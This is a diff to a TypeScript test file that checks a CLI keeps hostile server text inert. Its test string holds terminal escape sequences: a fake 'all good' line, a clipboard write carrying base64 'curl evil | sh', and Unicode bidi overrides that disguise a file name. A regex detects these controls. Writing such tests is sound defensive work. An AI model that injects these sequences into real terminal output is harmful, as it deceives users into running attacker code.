@@ -286,11 +286,12 @@ test.describe("a hostile script on the sign-in page", () => {
 
 test.describe("server and page text is inert", () => {
   // A window title, clearing the screen and scrollback, a fake "all good" drawn over the current
-  // line, a clipboard write (OSC 52), a C1 CSI; then a fake line of its own.
-  const ESCAPES = `\x1b]0;pwned\x07\x1b[2J\x1b[3J\r\x1b[2K✔ all good\x1b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\x07\u009b31m`;
+  // line, a clipboard write (OSC 52), a C1 CSI, the bidirectional controls (an override, an
+  // isolate, the marks) that reorder what the terminal shows; then a fake line of its own.
+  const ESCAPES = `\x1b]0;pwned\x07\x1b[2J\x1b[3J\r\x1b[2K✔ all good\x1b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\x07\u009b31m\u202a\u202b\u202c\u202d\u202egnp.exe\u2066\u2067\u2068\u2069\u200e\u200f`;
   const FAKE_LINE = "\n✔ rotated, nothing else to do";
 
-  const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
+  const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
   const hostileLogin = (login: string): FaultRule => ({
     method: "GET",
     path: "/api/v2/me",
@@ -332,7 +333,8 @@ test.describe("server and page text is inert", () => {
     }) => {
       world.circleci.faults.add(hostileLogin(`drill-responder${ESCAPES}`));
       world.drill(registry).faults.add(REFUSAL[registry]);
-      const result = await rotation.run(registry);
+      // npm's run answers in --json: the failure object carries the same texts.
+      const result = await rotation.run(registry, registry === "npm" ? ["--json"] : []);
       expect(result.code, result.stderr).toBe(1);
       for (const [name, text] of [
         ["stdout", result.stdout],
